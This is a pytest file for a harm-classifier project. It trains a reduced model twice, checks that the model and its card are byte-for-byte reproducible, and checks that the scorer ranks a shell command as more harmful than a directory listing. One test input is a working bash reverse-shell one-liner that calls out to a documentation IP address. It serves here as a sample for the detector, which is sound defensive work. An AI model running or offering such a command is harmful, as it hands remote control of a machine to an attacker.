"""Training, reduced: a few hundred rows of a corpora folder give the same bytes twice, and a model its card agrees with."""

import os
from pathlib import Path
from typing import Any

import pytest

from guard.scoring.onnx import Scorer
from guard.scoring.values import Score

CORPORA = Path(os.environ.get("GUARD_CORPORA") or Path(__file__).resolve().parents[3] / "shared" / "corpora")


@pytest.fixture(scope="module")
def trained(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    trainer: Any = pytest.importorskip(
        "classifiers.harm.train.__main__", reason="needs the extra `train`", exc_type=ImportError
    )
    if not list(CORPORA.glob("*.jsonl.gz")):
        pytest.skip("needs a corpora folder: name one in GUARD_CORPORA")
    rows, sources = trained_rows(trainer)
    folders = [tmp_path_factory.mktemp("model") for _ in range(2)]
    for folder in folders:
        trainer.train(rows, sources, folder, "test", groups=trainer.corpus.GROUPS[-2:])
    return folders


def trained_rows(trainer: Any) -> tuple[list[Any], list[Any]]:
    """Every 400th harmless and every 40th harmful row: enough for all labels, fitted in seconds."""
    rows, sources = trainer.corpus.read(CORPORA)
    harmful, harmless = [row for row in rows if row.harmful], [row for row in rows if not row.harmful]
    return [*harmful[::40], *harmless[::400], *trainer.everyday.generate(200, 1)], sources


def test_the_same_rows_give_the_same_bytes(trained: list[Path]) -> None:
    """Model and card are reproducible."""
    for name in ("model.onnx", "card.yaml"):
        assert trained[0].joinpath(name).read_bytes() == trained[1].joinpath(name).read_bytes()


def test_what_was_trained_loads_and_tells_harm_from_work(trained: list[Path]) -> None:
    """Even the reduced model ranks a reverse shell above a listing."""
    scorer = Scorer.load(trained[0])
    shell, listing = (
        scorer.score("shell", text) for text in ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "ls -la src")
    )
    assert isinstance(shell, Score)
    assert isinstance(listing, Score)
    assert shell.probability > listing.probability
